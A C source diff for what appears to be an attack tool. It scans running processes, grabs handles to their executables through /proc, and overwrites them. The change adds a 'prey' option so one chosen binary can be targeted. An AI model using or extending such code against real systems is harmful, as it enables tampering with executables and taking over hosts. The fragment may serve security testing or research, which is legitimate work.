@@ -59,10 +59,20 @@ static void each_process(void (*visit)(const char *process))
 
 enum { MAX_HANDLES = 64 };
 
-static bool attack_all;
+static const char *prey; /* NULL: foreign programs */
 static int handles[MAX_HANDLES];
 static struct stat known[MAX_HANDLES];
 static int handle_count;
+
+static bool is_prey(const char *path, int fd)
+{
+	char target[256];
+	ssize_t size = readlink(path, target, sizeof(target) - 1);
+	if (!prey || size < 0)
+		return size >= 0 && is_foreign(fd);
+	target[size] = '\0';
+	return !strcmp(target, prey);
+}
 
 static void take_exe(const char *process)
 {
@@ -71,7 +81,7 @@ static void take_exe(const char *process)
 	snprintf(path, sizeof(path), "%s/exe", process);
 	int fd = open(path, O_PATH | O_CLOEXEC);
 	bool wanted = fd >= 0 && fstat(fd, &status) == 0 && handle_count < MAX_HANDLES &&
-		      (attack_all || is_foreign(fd));
+		      is_prey(path, fd);
 	for (int i = 0; wanted && i < handle_count; i++)
 		wanted = known[i].st_ino != status.st_ino || known[i].st_dev != status.st_dev;
 	if (!wanted) {
@@ -101,7 +111,7 @@ static void overwrite(int handle)
 
 int attack_exe_loop(char **words)
 {
-	attack_all = *words && !strcmp(*words, "all");
+	prey = *words;
 	print_ready();
 	for (;;) {
 		each_process(take_exe);
